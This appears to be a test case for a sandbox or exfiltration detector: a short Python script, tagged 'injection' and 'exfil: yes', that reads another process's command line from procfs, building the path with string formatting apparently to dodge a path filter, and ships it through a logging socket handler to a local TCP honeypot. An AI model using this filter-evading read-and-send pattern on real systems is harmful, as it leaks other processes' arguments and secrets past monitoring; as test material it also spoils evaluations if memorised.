# family: injection
# filterfamily: proc
# tries: format the procfs path of another process's command line with %s and send it to the TCP honeypot
# source: none
# exfil: yes
import logging
import logging.handlers
import sys

decoy, tcp = sys.argv[7], int(sys.argv[4])
with open("/%s/%s/cmdline" % ("proc", decoy), "rb") as f:
    line = f.read().replace(b"\0", b" ").decode()
log = logging.getLogger("metrics")
log.addHandler(logging.handlers.SocketHandler("127.1", tcp))
log.warning(line)
logging.shutdown()
